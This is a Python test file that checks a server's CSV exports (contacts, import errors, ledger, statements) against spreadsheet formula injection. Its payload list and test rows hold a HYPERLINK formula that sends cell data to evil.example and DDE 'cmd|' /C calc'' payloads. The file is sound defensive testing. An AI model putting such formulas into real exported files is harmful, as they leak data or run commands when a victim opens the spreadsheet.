"""CSV formula injection (docs/decisions/0012-csv-exports.md): every CSV the
server writes (the contacts export, an import's errors.csv, the ledger
export, statements) writes a cell that a spreadsheet would run as a formula
(= + - @ tab CR first) with a leading single quote; plain numbers (amounts,
E.164 numbers) stay as they are; and an export re-imports losslessly."""

import uuid

import ujumbe_it as u
from ujumbe_it import assert_ok, create_contact, csv_dicts, get_csv, import_csv, parse_csv

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
]


def is_plain_number(cell):
    body = cell[1:] if cell[:1] in ("+", "-") else cell
    whole, dot, fraction = body.partition(".")
    return whole.isdigit() and whole.isascii() and (not dot or (fraction.isdigit()
                                                               and fraction.isascii()))


def assert_no_formula_cells(rows):
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                assert is_plain_number(cell), "a spreadsheet would run %r in %r" % (cell, row)


def test_contacts_export_guards_formulas_and_round_trips(api, owner, register):
    token = owner.access
    made = []
    for i, payload in enumerate(PAYLOADS):
        made.append(create_contact(api, token, name=payload,
                                   phone_e164="+2547330%05d" % (i + 1),
                                   tags=["t%d" % i],
                                   attributes={"note": payload}))
    text = get_csv(api, token, "/contacts/export")
    rows = parse_csv(text)
    assert_no_formula_cells(rows)
    by_name = {r["phone_e164"]: r for r in csv_dicts(text)}
    # E.164 numbers are written as they are (a number to any spreadsheet).
    for i in range(len(PAYLOADS)):
        assert "+2547330%05d" % (i + 1) in by_name
    assert by_name["+254733000001"]["name"] == "'" + PAYLOADS[0]
    assert by_name["+254733000006"]["name"] == "''=already quoted"

    other = register()
    done = import_csv(api, other.access, text.encode("utf-8"), filename="export.csv")
    assert done["status"] == "completed", done
    u.assert_counts(done, created=len(PAYLOADS))
    copied, _ = u.list_all(api, other.access, "/contacts")
    got = {c["phone_e164"]: (c["name"], c["attributes"], c["tags"]) for c in copied}
    want = {c["phone_e164"]: (c["name"], c["attributes"], c["tags"]) for c in made}
    assert got == want


def test_import_errors_csv_guards_formulas(api, owner):
    data = ("name,phone_e164\r\n"
            "\"=HYPERLINK(\"\"http://evil.example\"\")\",not-a-phone\r\n"
            "@SUM(1),+2547330\r\n").encode("utf-8")
    done = import_csv(api, owner.access, data, filename="bad.csv")
    assert done["failed"] == 2, done
    text = get_csv(api, owner.access, "/contacts/imports/%s/errors.csv" % done["id"])
    rows = parse_csv(text)
    assert len(rows) == 3, rows
    assert_no_formula_cells(rows)
    # the row column is the input row as CSV text (guarded when it starts a formula)
    errors = u.import_errors(api, owner.access, done["id"])
    assert errors[0]["row"] == '"=HYPERLINK(""http://evil.example"")",not-a-phone'
    assert errors[1]["row"] == "'@SUM(1),+2547330"


def test_ledger_export_and_statement_csv_guard_formulas(api, admin, owner):
    reference = "=1+2-" + uuid.uuid4().hex[:6]
    assert_ok(api("POST", "/wallet/topups", json={
        "account_id": owner.account_id, "amount": "1.5", "reference": reference,
        "description": "@SUM(A1:A9)"}, token=admin.access), 201)
    assert_ok(api("POST", "/wallet/adjustments", json={
        "account_id": owner.account_id, "amount": "-0.5", "reference": "-" + reference,
        "description": "+cmd|' /C calc'!A0"}, token=admin.access), 201)
    text = get_csv(api, owner.access, "/wallet/transactions/export")
    rows = parse_csv(text)
    assert_no_formula_cells(rows)
    entries = csv_dicts(text)
    topup = [e for e in entries if e["type"] == "topup"][0]
    assert topup["reference"] == "'" + reference
    assert topup["description"] == "'@SUM(A1:A9)"
    adjustment = [e for e in entries if e["type"] == "adjustment"][0]
    assert adjustment["amount"] == "-0.5"  # amounts stay numbers
    assert adjustment["description"] == "'+cmd|' /C calc'!A0"

    month = entries[0]["created_at"][:7]
    statement = get_csv(api, owner.access, "/billing/statements?month=%s&format=csv" % month)
    rows = parse_csv(statement)
    assert_no_formula_cells(rows)
    amounts = {(r[0], r[1]): r[3] for r in rows[1:]}
    assert amounts[("entries", "adjustment")] == "-0.5"
